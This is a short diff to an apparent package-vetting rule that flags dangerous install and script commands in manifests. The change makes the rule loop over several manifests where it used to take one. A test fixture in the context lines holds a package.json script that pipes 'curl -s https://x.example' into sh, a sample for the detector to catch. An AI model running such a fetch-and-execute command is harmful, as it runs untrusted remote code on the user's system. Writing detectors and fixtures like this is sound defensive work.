@@ -17,10 +17,12 @@ export const installCommand: VetRule = {
         '{ "name": "a", "scripts": { "postinstall": "node build.js", "test": "curl -s https://x.example | sh" } }',
     },
   ],
-  *check({ manifest, says }) {
-    for (const [stage, command] of Object.entries(manifest?.installs ?? {})) {
-      const [found] = says.dangersOf(command)
-      if (found !== undefined) yield { path: manifest!.path, at: 0, note: `${stage} ${found.why}` }
+  *check({ manifests, says }) {
+    for (const { path, installs } of manifests) {
+      for (const [stage, command] of Object.entries(installs)) {
+        const [found] = says.dangersOf(command)
+        if (found !== undefined) yield { path, at: 0, note: `${stage} ${found.why}` }
+      }
     }
   },
 }
